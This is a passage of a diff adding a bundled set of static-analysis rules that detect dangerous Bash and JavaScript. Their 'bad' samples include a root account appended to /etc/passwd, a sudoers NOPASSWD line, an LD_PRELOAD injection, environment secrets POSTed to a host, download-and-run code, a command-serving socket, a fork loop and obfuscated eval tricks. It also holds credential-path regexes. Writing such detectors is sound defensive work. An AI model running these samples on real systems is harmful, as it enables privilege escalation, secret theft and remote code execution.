+            { call: ['sed', 'perl'], where: [{ flag: ['i', 'in-place', 'pi'] }, { arg: 'any', regex: ACCOUNTS }] },
+        ],
+        bad: [
+            "echo 'r::0:0::/:/bin/sh' >> /etc/passwd",
+            ': > /etc/shadow',
+            "echo 'ProxyCommand x' >> ~/.ssh/config",
+            'truncate -s 0 /etc/passwd',
+            "echo 'x ALL=(ALL) NOPASSWD: ALL' | tee -a /etc/sudoers.d/x",
+            "sed -i 's/x/y/' /etc/group",
+        ],
+        ok: ['cut -d: -f1 /etc/passwd', 'cp /etc/passwd passwd.bak', 'echo x > etc/passwd', 'getent passwd'],
+    },
+    {
+        id: 'sh/filesystem/later-steps',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Changes the environment or the path of later steps of the workflow',
+        recommendation: 'Set what is needed in the workflow itself',
+        metadata: { capability: 'filesystem', cwe: 'CWE-454' },
+        match: [
+            { redirect: { operator: WRITES, target: { regex: '\\$\\{?GITHUB_(ENV|PATH)' } } },
+            {
+                all: [
+                    { attribute: ['env.GITHUB_ENV', 'env.GITHUB_PATH'] },
+                    { call: WRITERS, where: { minArgs: 1, arg: -1, is: 'external' } },
+                ],
+            },
+        ],
+        bad: [
+            'echo "LD_PRELOAD=/tmp/x.so" >> "$GITHUB_ENV"',
+            'echo /tmp/bin >> $GITHUB_PATH',
+            'echo A=1 | tee -a "$GITHUB_ENV"',
+        ],
+        ok: ['echo "a=1" >> "$GITHUB_OUTPUT"', 'echo "$GITHUB_ENV"', 'cat "$GITHUB_PATH"'],
+    },
+    {
+        id: 'sh/filesystem/startup-file',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Changes what later shells, jobs or commits run',
+        recommendation: 'Set what is needed in the script itself',
+        metadata: { capability: 'filesystem' },
+        match: [
+            {
+                redirect: {
+                    operator: WRITES,
+                    target: { regex: [STARTUP, '\\.git/hooks/', '\\.git/config$'] },
+                },
+            },
+            { call: WRITERS, where: { minArgs: 1, arg: -1, regex: [STARTUP, '\\.git/hooks/'] } },
+            { call: ['at', 'batch'] },
+            {
+                call: 'git',
+                where: {
+                    arg: 'any',
+                    equals: ['core.hooksPath', 'core.fsmonitor', 'core.sshCommand', 'core.pager', 'init.templateDir'],
+                },
+            },
+            { assign: ['PROMPT_COMMAND', 'BASH_ENV', 'ENV'] },
+        ],
+        bad: [
+            "echo 'export PATH=/x:$PATH' >> ~/.bashrc",
+            'cp hook .git/hooks/pre-commit',
+            'echo /tmp/x | at now',
+            "PROMPT_COMMAND='date'",
+        ],
+        ok: ['cat ~/.bashrc', 'echo "a=1" >> "$GITHUB_OUTPUT"', 'source ~/.bashrc', 'git config user.name a'],
+    },
+    {
+        id: 'sh/filesystem/system-write',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Writes into a system folder',
+        recommendation: 'Write into the working folder',
+        metadata: { capability: 'filesystem' },
+        match: [
+            {
+                redirect: {
+                    operator: WRITES,
+                    target: { regex: '^/(etc|usr|bin|sbin|lib|lib64|boot|sys|proc|root|opt|var/(lib|www|spool))/' },
+                },
+            },
+            {
+                call: WRITERS,
+                where: {
+                    minArgs: 2,
+                    arg: -1,
+                    regex: '^/(etc|usr|bin|sbin|lib|lib64|boot|sys|proc|root|var/(lib|www|spool))(/|$)',
+                },
+            },
+            { call: 'tee', where: { arg: -1, regex: '^/(etc|usr|bin|sbin|lib|boot|sys|proc|root)/' } },
+            { call: 'sed', where: [{ flag: ['i', 'in-place'] }, { arg: 'any', prefix: ['/etc/', '/usr/', '/boot/'] }] },
+        ],
+        bad: ['echo 1.2.3.4 x >> /etc/hosts', 'sudo cp tool /usr/local/bin/', 'sed -i s/a/b/ /etc/ssh/sshd_config'],
+        ok: ['cp a b', 'echo x > out/etc/hosts', 'cat /usr/share/dict/words > words.txt', 'cp /etc/hosts hosts.bak'],
+    },
+];
+
+;// CONCATENATED MODULE: ./build/rules/bash.js
+/** Rules for Bash. A new family is a file of its own and one line here. */
 
 
-/***/ }),
 
-/***/ 8609:
-/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
-/* harmony export */ __webpack_require__.d(__webpack_exports__, {
-/* harmony export */   d: () => (/* binding */ viewOf)
-/* harmony export */ });
-/* unused harmony export DEFAULT_OPTIONS */
-const DEFAULT_OPTIONS = { style: 'full', lang: 'en', quality: true, code: true, output: true };
-/** A view with nothing but the record; spread it and add what is known. */
-const viewOf = (record, state) => ({
-    state,
-    record,
-    trigger: '/run',
-    identity: null,
-    links: { source: null, commit: null, artifacts: null, twin: null, rules: null, files: null },
-    roles: { author: null, requester: null },
-    approval: null,
-    ending: null,
-    task: null,
-    taskNotes: null,
-    blocks: [],
-    skipped: [],
-    problems: [],
-});
+
+
+
+
+
+
+
+
+
+
+const bashRules = [
+    ...bashCodeRules,
+    ...bashDisguiseRules,
+    ...bashSecretRules,
+    ...bashFileRules,
+    ...bashDiskRules,
+    ...bashPathRules,
+    ...bashWriteRules,
+    ...bashProcessRules,
+    ...bashRightsRules,
+    ...bashProgramRules,
+    ...bashLimitRules,
+    ...bashEscapeRules,
+    ...bashNetworkRules,
+    ...bashRemoteRules,
+];
+
+;// CONCATENATED MODULE: ./build/rules/combinations.js
+/** Two harmless-looking halves that are dangerous together, in any language (their tags stand on the other rules). */
+
+const combinationRules = [
+    {
+        id: 'any/environment-secrets/sent-away',
+        languages: types/* LANGUAGE_IDS */.u,
+        severity: 'high',
+        message: 'Reads secrets or credentials and talks to the network',
+        recommendation: 'Keep what reads secrets apart from what sends data',
+        metadata: { capability: 'environment-secrets', cwe: 'CWE-200' },
+        match: { combine: [['secrets', 'sensitive-path'], 'send'] },
+        bad: [
+            {
+                language: 'javascript',
+                code: "fetch('https://example.org', { method: 'POST', body: JSON.stringify(process.env) })",
+            },
+        ],
+        ok: [
+            { language: 'javascript', code: "fetch('https://example.org/' + process.env.LANG)" },
+            { language: 'javascript', code: 'console.log(process.env)' },
+        ],
+    },
+    {
+        id: 'any/process/download-and-run',
+        languages: types/* LANGUAGE_IDS */.u,
+        severity: 'high',
+        message: 'Downloads something and runs it',
+        recommendation: 'Have the file in the repository, where it can be read before it runs',
+        metadata: { capability: 'process', cwe: 'CWE-494' },
+        match: { combine: ['download', 'execute'] },
+        bad: [
+            {
+                language: 'javascript',
+                code: "const r = await fetch('https://example.org/x.sh');\nrequire('fs').writeFileSync('/tmp/x.sh', await r.text());\nrequire('child_process').execSync('sh /tmp/x.sh');",
+            },
+        ],
+        ok: [
+            {
+                language: 'javascript',
+                code: "const r = await fetch('https://example.org/data.json');\nconsole.log(await r.json());",
+            },
+        ],
+    },
+    {
+        id: 'any/process/serves-commands',
+        languages: types/* LANGUAGE_IDS */.u,
+        severity: 'high',
+        message: 'Waits for connections and runs commands that are not known before',
+        recommendation: 'Never run what somebody sends; answer with data',
+        metadata: { capability: 'process', cwe: 'CWE-78' },
+        match: { combine: ['serves', 'runs-given'] },
+        bad: [
+            {
+                language: 'javascript',
+                code: "require('http').createServer((q, r) => require('child_process').exec(q.url.slice(1), (e, o) => r.end(o))).listen(80)",
+            },
+            {
+                language: 'python',
+                code: "import socketserver, subprocess\nclass H(socketserver.StreamRequestHandler):\n    def handle(self):\n        for line in self.rfile:\n            subprocess.run(line, shell=True)\nsocketserver.TCPServer(('', 4444), H).serve_forever()",
+            },
+        ],
+        ok: [
+            { language: 'javascript', code: "require('http').createServer((q, r) => r.end('ok')).listen(80)" },
+            {
+                language: 'python',
+                code: 'import http.server as h\nh.HTTPServer(("127.0.0.1", 80), h.SimpleHTTPRequestHandler)',
+            },
+        ],
+    },
+    {
+        id: 'any/obfuscation/hides-execution',
+        languages: types/* LANGUAGE_IDS */.u,
+        severity: 'high',
+        message: 'Disguises text and runs code, a process or native memory with it',
+        recommendation: 'Write the code out plainly',
+        metadata: { capability: 'obfuscation', cwe: 'CWE-506' },
+        match: { combine: ['disguise', ['dynamic-code', 'process', 'native']] },
+        bad: [{ language: 'javascript', code: "eval(atob('Y29uc29sZS5sb2coMSk='))" }],
+        ok: [{ language: 'javascript', code: "console.log(atob('aGVsbG8gd29ybGQ='))" }],
+    },
+    {
+        id: 'any/dynamic-code/hidden-process',
+        languages: types/* LANGUAGE_IDS */.u,
+        severity: 'high',
+        message: 'Runs text as code that starts processes or leaves the language',
+        recommendation: 'Write the code out plainly',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-95' },
+        match: { combine: [['inside:process', 'inside:native', 'inside:sandbox-escape']] },
+        bad: [
+            { language: 'javascript', code: "eval(\"require('child_process').execFile('ls')\")" },
+            {
+                language: 'javascript',
+                code: "const M = require('module'); new M('x')._compile(\"require('child_process').fork('a')\", 'x.js')",
+            },
+        ],
+        ok: [
+            { language: 'javascript', code: "require('child_process').execFile('ls')" },
+            { language: 'javascript', code: "eval('1 + 1'); require('child_process').execFile('ls')" },
+        ],
+    },
+    {
+        id: 'any/resource-exhaustion/endless-fork',
+        languages: types/* LANGUAGE_IDS */.u,
+        severity: 'high',
+        message: 'Starts processes in a loop without an end',
+        recommendation: 'Bound the loop and wait for each process',
+        metadata: { capability: 'resource-exhaustion', cwe: 'CWE-400' },
+        match: { combine: ['endless', 'fork'] },
+        bad: [
+            { language: 'javascript', code: "const { fork } = require('child_process');\nwhile (true) fork(__filename);" },
+        ],
+        ok: [{ language: 'javascript', code: 'while (true) { if (Math.random() > 0.9) break; }' }],
+    },
+];
+
+;// CONCATENATED MODULE: ./build/rules/javascript-code.js
+const languages = ['javascript', 'typescript'];
+const plain = 'Write the code out; choose among known functions with a table';
+const RUNNERS = ['eval', 'Function', 'vm.run*', 'vm.Script', 'vm.compileFunction', 'vm.SourceTextModule'];
+const codeRules = [
+    {
+        id: 'js/dynamic-code/eval',
+        languages,
+        severity: 'low',
+        message: 'Runs text as code (`eval`, `Function`, `vm`)',
+        recommendation: plain,
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-95' },
+        match: [{ call: RUNNERS }, { import: 'vm' }, { attribute: ['eval', 'Function', 'vm.*'] }],
+        bad: [
+            'eval("1 + 1")',
+            "new Function('a', 'return a')(1)",
+            "import { runInThisContext } from 'node:vm';",
+            '[1].map(eval)',
+        ],
+        ok: [
+            "// eval('1')",
+            "console.log('eval(1)')",
+            'const evaluate = (x) => x; evaluate(1);',
+            'function Function2() {} new Function2();',
+        ],
+    },
+    {
+        id: 'js/dynamic-code/eval-variable',
+        languages,
+        severity: 'medium',
+        message: 'Runs text as code that is not known before the program runs',
+        recommendation: plain,
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-95' },
+        match: { call: RUNNERS, where: [{ arg: [-1, 0], is: 'non-literal' }, { minArgs: 1 }] },
+        bad: [
+            'eval(process.argv[2])',
+            'const f = (s) => eval(s);',
+            'const run = eval; run(parameters.code)',
+            'Reflect.apply(eval, null, [parameters.x])',
+            'new Function(parameters.body)()',
+            "require('vm').runInNewContext(parameters.code)",
+        ],
+        ok: [
+            "eval('1 + 1')",
+            'const x = { eval: (s) => s }; x.eval(parameters.a);',
+            'function run(eval2) { return eval2(parameters); }',
+        ],
+    },
+    {
+        id: 'js/dynamic-code/eval-download',
+        languages,
+        severity: 'high',
+        message: 'Runs code that it gets from the network',
+        recommendation: 'Have the code in the repository, where it can be read before it runs',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-494' },
+        match: [
+            { call: RUNNERS, where: { arg: [-1, 0], source: 'network' } },
+            { call: ['setTimeout', 'setInterval'], where: { arg: 0, source: 'network' } },
+        ],
+        bad: [
+            "eval(await (await fetch('https://example.org/x.js')).text())",
+            "fetch('https://example.org/x').then((r) => r.text()).then((t) => eval(t))",
+            "fetch('https://example.org/x').then((r) => r.text()).then(eval)",
+            "let body = ''; require('https').get('https://example.org/x', (r) => { r.on('data', (d) => (body += d)); r.on('end', () => new Function(body)()); });",
+        ],
+        ok: ["const text = await (await fetch('https://example.org/x.json')).text(); console.log(JSON.parse(text));"],
+    },
+    {
+        id: 'js/obfuscation/eval-decoded',
+        languages,
+        severity: 'high',
+        message: 'Runs code that it decodes, unpacks or decrypts',
+        recommendation: plain,
+        metadata: { capability: 'obfuscation', cwe: 'CWE-506' },
+        match: { call: RUNNERS, where: { arg: [-1, 0], source: 'decoded' } },
+        bad: [
+            "eval(Buffer.from(parameters.x, 'base64').toString())",
+            'new Function(atob(parameters.x))()',
+            "eval(require('zlib').gunzipSync(parameters.x).toString())",
+        ],
+        ok: ["console.log(Buffer.from(parameters.x, 'base64').toString())", "eval('1 + 1'); atob(parameters.x);"],
+    },
+    {
+        id: 'js/dynamic-code/hidden-eval',
+        languages,
+        severity: 'high',
+        message: 'Reaches `eval` or `Function` by a disguised name',
+        recommendation: plain,
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-506' },
+        tags: ['disguise'],
+        match: [{ call: RUNNERS, hidden: true }, { attribute: 'eval' }],
+        bad: [
+            "globalThis['ev' + 'al']('1')",
+            "const k = ['ev', 'al'].join(''); global[k]('1')",
+            "globalThis[String.fromCharCode(101, 118, 97, 108)]('1')",
+            "globalThis['\\x65val']('1')",
+            "global['lave'.split('').reverse().join('')]('1')",
+            "(() => {}).constructor('return process')()",
+            "[].constructor.constructor('return this')()",
+            "''.sub.constructor('return this')()",
+            "Object.getPrototypeOf(async function () {}).constructor('return 1')()",
+            'e\\u0076al("1")',
+            "const { ['ev' + 'al']: run } = globalThis; run('1')",
+            "Reflect.get(globalThis, 'eval')('1')",
+            "globalThis[Buffer.from('ZXZhbA==', 'base64').toString()]('1')",
+            "let s = ''; for (const c of [101, 118, 97, 108]) s += String.fromCharCode(c); globalThis[s]('1')",
+            "let n = ''; for (const c of 'fwbm') n += String.fromCharCode(c.charCodeAt(0) - 1); globalThis[n]('1')",
+            "const d = (s) => s.split('').reverse().join(''); globalThis[d('lave')]('1')",
+            "const x = [8, 27, 12, 1].map((c) => String.fromCharCode(c ^ 109)).join(''); globalThis[x]('1')",
+            "[]['fl' + 'at']['constr' + 'uctor']('return 1')()",
+        ],
+        ok: [
+            "console['lo' + 'g']('x')",
+            'class A { constructor() { this.x = 1; } } new A();',
+            "const o = { constructor: 1 }; console.log(o['construct' + 'or'])",
+            "const name = ['ev', 'ent'].join(''); console.log(name)",
+            "console.log([101, 118, 97, 108].map((c) => String.fromCharCode(c)).join(''))",
+        ],
+    },
+    {
+        id: 'js/dynamic-code/text-with-power',
+        languages,
+        severity: 'high',
+        inside: true,
+        message: 'Runs text as code that reaches the process, modules or the network',
+        recommendation: plain,
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-95' },
+        match: [
+            { call: ['process.*', 'require', 'import', 'fetch', 'fs.*', 'child_process.*', 'globalThis.?'] },
+            { attribute: ['process', 'process.*', 'require', 'globalThis.?'] },
+            { import: '*' },
+        ],
+        bad: [
+            "eval('process.exit()')",
+            "new Function('return process.env')()",
+            'setTimeout(\'require("fs")\', 1)',
+            "require('vm').runInThisContext('process.exit()')",
+            "eval.call(null, 'process.exit()')",
+            "await import('data:text/javascript,process.exit()')",
+        ],
+        ok: [
+            "eval('1 + 1')",
+            "new Function('a', 'b', 'return a + b')(1, 2)",
+            "new Function('return this')()",
+            'process.exit()',
+        ],
+    },
+    {
+        id: 'js/dynamic-code/encoded-module',
+        languages,
+        severity: 'high',
+        message: 'Imports code that is encoded in an address',
+        recommendation: plain,
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-506' },
+        match: { import: ['data:*base64*', 'data:*%*'] },
+        bad: ["await import('data:text/javascript;base64,Y29uc29sZS5sb2coMSk=')"],
+        ok: [
+            "await import('data:text/javascript,console.log(1)')",
+            "const i = 'data:image/png;base64,AAAA'; console.log(i)",
+        ],
+    },
+    {
+        id: 'js/dynamic-code/worker-of-text',
+        languages,
+        severity: 'high',
+        message: 'Runs text as a worker of its own',
+        recommendation: plain,
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-95' },
+        match: { all: [{ call: ['URL.createObjectURL'] }, { call: ['Worker', 'worker_threads.Worker', 'SharedWorker'] }] },
+        bad: ["new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))"],
+        ok: ["new Worker('./worker.js')", "URL.createObjectURL(new Blob(['a']))"],
+    },
+    {
+        id: 'js/dynamic-code/poisoned-options',
+        languages,
+        severity: 'high',
+        message: 'Plants options for processes that start later in the prototype of every object',
+        recommendation: 'Pass options to the call that needs them',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-1321' },
+        match: {
+            assign: [
+                'shell',
+                'NODE_OPTIONS',
+                'env',
+                'argv0',
+                'execPath',
+                'execArgv',
+                'input',
+                'main',
+                'exports',
+                'cwd',
+            ].flatMap((name) => [`Object.prototype.${name}`, `*.__proto__.${name}`]),
+        },
+        bad: ["Object.prototype.shell = '/bin/sh'", "({}).__proto__['NODE_OPTIONS'] = '--require /tmp/x.js'"],
+        ok: ['Object.prototype.isAdmin = true', "const options = {}; options.shell = '/bin/sh'"],
+    },
+    {
+        id: 'js/dynamic-code/timer-text',
+        languages,
+        severity: 'medium',
+        message: 'Hands a timer text to run as code',
+        recommendation: 'Hand it a function',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-95' },
+        match: {
+            call: ['setTimeout', 'setInterval', 'setImmediate'],
+            where: { arg: 0, is: ['string', 'external', 'list'] },
+        },
+        bad: ["setTimeout('alert(1)', 10)", "const code = 'x' + '()'; setInterval(code, 5)"],
+        ok: ["setTimeout(() => console.log('x'), 10)", 'function tick() {} setInterval(tick, 5)'],
+    },
+    {
+        id: 'js/dynamic-code/computed-module',
+        languages,
+        severity: 'medium',
+        message: 'Loads a module whose name is not known before the program runs',
+        recommendation: 'Name the module, or choose from a fixed list',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-829' },
+        match: {
+            call: ['require', 'import', 'createRequire()', 'module.createRequire()'],
+            where: [{ arg: 0, is: 'non-literal' }, { minArgs: 1 }],
+        },
+        bad: ['require(process.argv[2])', 'const m = await import(parameters.module)', 'module.require(parameters.m)'],
+        ok: ["require('./local')", "await import('node:fs')", 'const request = (x) => x; request(parameters.a)'],
+    },
+    {
+        id: 'js/dynamic-code/data-module',
+        languages,
+        severity: 'medium',
+        message: 'Imports code out of a `data:` address',
+        recommendation: plain,
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-95' },
+        match: { import: 'data:*' },
+        bad: ["await import('data:text/javascript,console.log(1)')"],
+        ok: ["const picture = 'data:image/png;base64,AAAA'; console.log(picture)"],
+    },
+    {
+        id: 'js/dynamic-code/found-global',
+        languages,
+        severity: 'high',
+        message: 'Looks through the global names and calls one that it picked',
+        recommendation: plain,
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-470' },
+        tags: ['disguise'],
+        match: {
+            all: [
+                {
+                    call: ['Object.getOwnPropertyNames', 'Object.keys', 'Object.entries', 'Object.values', 'Reflect.ownKeys'],
+                    where: { arg: 0, path: ['globalThis', 'process', 'child_process', 'module'] },
+                },
+                { call: ['globalThis.?', 'process.?', 'child_process.?', 'module.?', '?'] },
+            ],
+        },
+        bad: [
+            "const f = Object.getOwnPropertyNames(globalThis).find((n) => /^ev/.test(n)); globalThis[f]('process.exit()');",
+            "const n = Reflect.ownKeys(process).find((k) => k.endsWith('ing')); process[n]('fs');",
+        ],
+        ok: [
+            'console.log(Object.keys(globalThis).length)',
+            'for (const k of Object.keys(process.versions)) console.log(k)',
+        ],
+    },
+    {
+        id: 'js/dynamic-code/text-to-prompt',
+        languages,
+        severity: 'high',
+        message: 'Feeds text to an interactive interpreter, which runs it',
+        recommendation: plain,
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-95' },
+        tags: ['disguise'],
+        match: [{ call: 'repl.start', where: { arg: 'input', is: 'present' } }, { call: 'repl.start().eval' }],
+        bad: ["require('repl').start({ input: require('stream').Readable.from(['process.exit()\\n']) })"],
+        ok: ["require('repl').start('> ')", "console.log('repl.start')"],
+    },
+    {
+        id: 'js/dynamic-code/computed-global',
+        languages,
+        severity: 'medium',
+        message: 'Calls a global function, or one of a module, whose name is not known before the program runs',
+        recommendation: plain,
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-470' },
+        match: { call: ['globalThis.?', 'process.?', 'child_process.?', 'vm.?', 'fs.?', 'Reflect.?'] },
+        bad: [
+            "globalThis[parameters.name]('x')",
+            "require('fs')[parameters.method]('x')",
+            'const g = window; g[parameters.a](parameters.b)',
+        ],
+        ok: ['const table = { a: () => 1 }; table[parameters.name]()', 'Math[parameters.name](2)'],
+    },
+    {
+        id: 'js/dynamic-code/changed-builtin',
+        languages,
+        severity: 'medium',
+        message: 'Changes what is built into the language for all code',
+        recommendation: 'Write a function of your own beside it',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-1321' },
+        match: [
+            {
+                assign: [
+                    'Object.prototype.*',
+                    'Function.prototype.*',
+                    '*.__proto__',
+                    '*.__proto__.*',
+                    'globalThis.eval',
+                    'require.extensions*',
+                    'require.cache*',
+                ],
+            },
+            { call: ['module._compile', '?._compile', 'module.wrap', 'module.register'] },
+        ],
+        bad: ['Object.prototype.isAdmin = true', "({}).__proto__['polluted'] = 1", "Function.prototype['call'] = () => 1"],
+        ok: [
+            'class A {} A.prototype.x = 1;',
+            'const proto = { a: 1 }; proto.isAdmin = true;',
+            'Array.prototype.last = function () { return this[this.length - 1]; };',
+        ],
+    },
+    {
+        id: 'js/obfuscation/decoded-code',
+        languages,
+        severity: 'medium',
+        message: 'Decodes text that turns out to be code, a command or an address',
+        recommendation: 'Write the text out plainly',
+        metadata: { capability: 'obfuscation', cwe: 'CWE-506' },
+        tags: ['disguise'],
+        match: {
+            obfuscation: [
+                'base64',
+                'base64url',
+                'hex',
+                'char-codes',
+                'escape',
+                'percent',
+                'reversed',
+                'replace',
+                'number',
+                'latin1',
+                'binary',
+            ],
+        },
+        bad: [
+            "console.log(atob('cmVxdWlyZSgnZnMnKQ=='))",
+            "console.log(Buffer.from('6576616c2831293b', 'hex').toString())",
+            'const s = \'\\x72\\x65\\x71\\x75\\x69\\x72\\x65("fs")\';',
+            "const u = decodeURIComponent('%65%76%61%6c%28%31%29');",
+            "const r = \")1(lave\".split('').reverse().join('');",
+            "const c = 'rxequixrxe'.replaceAll('x', '') + '(1)';",
+        ],
+        ok: [
+            "console.log(atob('aGVsbG8gd29ybGQ='))",
+            "console.log(Buffer.from('hello').toString('base64'))",
+            "console.log('abc'.split('').reverse().join(''))",
+            "console.log('caf\\u00e9', '\\x1b[31mred\\x1b[0m')",
+            "console.log(decodeURIComponent('a%20b'))",
+            'const rot13 = (s) => s.replace(/[a-z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) - 84) % 26) + 97)); console.log(rot13("uryyb"));',
+        ],
+    },
+    {
+        id: 'js/obfuscation/split-name',
+        languages,
+        severity: 'medium',
+        message: 'Puts a dangerous name together from pieces',
+        recommendation: 'Write the name out plainly',
+        metadata: { capability: 'obfuscation', cwe: 'CWE-506' },
+        tags: ['disguise'],
+        match: { obfuscation: 'split-name' },
+        bad: [
+            "const m = 'child' + '_process';",
+            "const n = `${'ex'}${'ecSync'}`;",
+            "const k = ['main', 'Module'].join('');",
+            "const a = 'xchild_processx'.slice(1, -1);",
+        ],
+        ok: ["const m = 'grand' + 'child';", "const k = ['main', 'menu'].join('-');", "const text = 'pro' + 'cessing';"],
+    },
+    {
+        id: 'js/obfuscation/computed-text',
+        languages,
+        severity: 'low',
+        message: 'Computes text from character codes',
+        recommendation: 'Write the text out plainly where it is known',
+        metadata: { capability: 'obfuscation' },
+        tags: ['disguise'],
+        match: {
+            call: ['String.fromCharCode', 'String.fromCodePoint', 'atob', 'unescape'],
+            where: { arg: 0, is: ['unknown', 'external', 'path'] },
+        },
+        bad: ['const f = (c) => String.fromCharCode(c ^ parameters.key);', 'atob(parameters.text)'],
+        ok: ["const letters = 'abc'.toUpperCase();", 'console.log(String.fromCharCode(65))'],
+    },
+];
+
+;// CONCATENATED MODULE: ./build/rules/javascript-data.js
+const javascript_data_languages = ['javascript', 'typescript'];
+const javascript_data_CLIENTS = [
+    'http',
+    'https',
+    'http2',
+    'net',
+    'tls',
+    'dgram',
+    'dns',
+    'dns.promises',
+    'undici',
+    'axios',
+    'node-fetch',
+    'got',
+    'ws',
+    'request',
+    'superagent',
+    'needle',
+    'nodemailer',
+    'ssh2',
+    'socket.io*',
+    'ky',
+    'ftp',
+];
+const REQUESTS = [
+    'fetch',
+    'http.get',
+    'http.request',
+    'https.get',
+    'https.request',
+    'http2.connect',
+    'net.connect',
+    'net.createConnection',
+    'net.Socket',
+    'net.Socket().connect',
+    'tls.connect',
+    'dgram.createSocket',
+    'dns.resolve*',
+    'dns.lookup',
+    'dns.promises.*',
+    'axios',
+    'axios.*',
+    'node-fetch',
+    'node-fetch.*',
+    'got',
+    'got.*',
+    'undici.*',
+    'needle*',
+    'superagent*',
+    'request',
+    'request.*',
+    'WebSocket',
+    'ws',
+    'ws.WebSocket',
+    'EventSource',
+    'XMLHttpRequest',
+    'XMLHttpRequest().*',
+    'navigator.sendBeacon',
+    'nodemailer.*',
+    'ky',
+    'ky.*',
+];
+const SECRET_FILES = [
+    '(?:^|/)\\.(?:ssh|aws|gnupg|kube|docker|azure|netrc|git-credentials|npmrc|pypirc|pgpass|bash_history)(?:/|$)|(?:^|/)id_(?:rsa|ed25519|ecdsa|dsa)$|^/etc/(?:shadow|gshadow|sudoers|ssl/private)|^/etc/passwd$|^/proc/(?:[0-9]{1,7}|self|\\*)/(?:environ|maps|cmdline)|^/var/run/secrets|^/run/secrets|(?:^|/)(?:credentials|secrets?)\\.(?:json|ya?ml|env)$|(?:^|/)\\.env(?:\\.\\w{1,20})?$|^/root(?:/|$)|wallet\\.dat$|Login Data$',
+    '(?:^|/)\\.(?:config/(?:google-chrome|chromium|gcloud|gh)|mozilla|bitcoin|electrum|ethereum|password-store)(?:/|$)|Library/Keychains|(?:^|/)\\.git/config$|cookies\\.sqlite$',
+];
+const FILE_READERS = ['fs.*', 'child_process.*', 'require', 'path.join', 'path.resolve', '?.readFile*'];
+const javascript_data_SECRET_NAMES = [
+    '*TOKEN*',
+    '*SECRET*',
+    '*PASSWORD*',
+    '*PASSWD*',
+    '*API_KEY*',
+    '*APIKEY*',
+    '*PRIVATE_KEY*',
+    '*CREDENTIAL*',
+    '*AWS_*',
+    '*_KEY',
+    '*token*',
+    '*secret*',
+    '*password*',
+].map((name) => `process.env.${name.replace(/^\*AWS/u, 'AWS')}`);
+const REMOVERS = [
+    'fs.rm',
+    'fs.rmSync',
+    'fs.rmdir',
+    'fs.rmdirSync',
+    'fs.promises.rm',
+    'fs.promises.rmdir',
+    'rimraf*',
+    'fs-extra.remove*',
+    'fs-extra.emptyDir*',
+    'del*',
+];
+const HOMES = ['os.homedir()', 'process.env.HOME', 'process.env.USERPROFILE'];
+const OVERWRITERS = ['fs.write*', 'fs.promises.writeFile', 'fs.createWriteStream', 'fs.truncate*', 'fs.rename*'];
+/** The root, homes and system folders. */
+const javascript_data_WHOLE = '^(?:/|~|/(?:home|root|etc|usr|var|bin|boot|lib|opt|srv)/?)$';
+/** Neither a folder below the current one nor a temporary one that the program made. */
+const NOT_OWN = [
+    { arg: 0, regex: '^(?!/|~|\\.\\.|[A-Za-z]:|\\*|\\.?/?$)|^/(?:var/)?tmp/[^*]', not: true },
+    { arg: 0, path: ['fs.mkdtempSync()', 'fs.promises.mkdtemp()', 'fs.mkdtemp()', 'tmp.*()'], not: true },
+];
+/** What other programs run or trust. */
+const javascript_data_STARTUP = 'authorized_keys$|(?:^|/)\\.(?:bashrc|profile|bash_profile|zshrc|gitconfig|npmrc)$|\\.git/hooks/|^/etc/(?:cron|passwd|shadow|sudoers|systemd|profile|ld\\.so|hosts|init\\.d|rc\\.local)|^/var/spool/cron|\\.config/(?:autostart|systemd)|^/usr/(?:local/)?s?bin/|^/s?bin/';
+const COPIERS = ['fs.copyFile*', 'fs.cp*', 'fs.rename*', 'fs.symlink*', 'fs.link*', 'fs.promises.*'];
+const javascript_data_WRITERS = [
+    'fs.write*',
+    'fs.append*',
+    'fs.createWriteStream',
+    'fs.truncate*',
+    'fs.unlink*',
+    'fs.promises.truncate',
+    'fs.promises.unlink',
+    'fs.copyFile*',
+    'fs.cp*',
+    'fs.rename*',
+    'fs.symlink*',
+    'fs.link*',
+    'fs.promises.write*',
+    'fs.promises.append*',
+    'fs.promises.copyFile',
+    'fs.promises.rename',
+    'fs.promises.symlink',
+];
+const dataRules = [
+    {
+        id: 'js/network/request',
+        languages: javascript_data_languages,
+        severity: 'low',
+        message: 'Talks to the network',
+        recommendation: 'Pass the data in as parameters or files; the sandbox has no network',
+        metadata: { capability: 'network' },
+        tags: ['send', 'download'],
+        match: { call: REQUESTS },
+        bad: [
+            "fetch('https://example.org')",
+            "require('https').get('https://example.org', (r) => r.resume())",
+            "const { request: r } = require('http'); r('http://h')",
+            "import axios from 'axios'; axios.get('http://h')",
+            "new WebSocket('wss://h')",
+            "globalThis['fetch']('http://h')",
+        ],
+        ok: [
+            "// fetch('https://example.org')",
+            "console.log('https://example.org')",
+            'const repo = { fetch: () => 1 }; repo.fetch();',
+            'function fetch(x) { return x; } fetch(1);',
+        ],
+    },
+    {
+        id: 'js/network/module',
+        languages: javascript_data_languages,
+        severity: 'low',
+        message: 'Loads a module for the network',
+        recommendation: 'Leave it out where it is not needed; the sandbox has no network',
+        metadata: { capability: 'network' },
+        match: { import: javascript_data_CLIENTS },
+        bad: ["require('net')", "import http from 'node:http'", "const dns = await import('dns/promises')"],
+        ok: ["require('path')", 'const https = true; console.log(https)', "import type { Socket } from './net'"],
+    },
+    {
+        id: 'js/network/listen',
+        languages: javascript_data_languages,
+        severity: 'low',
+        message: 'Waits for connections',
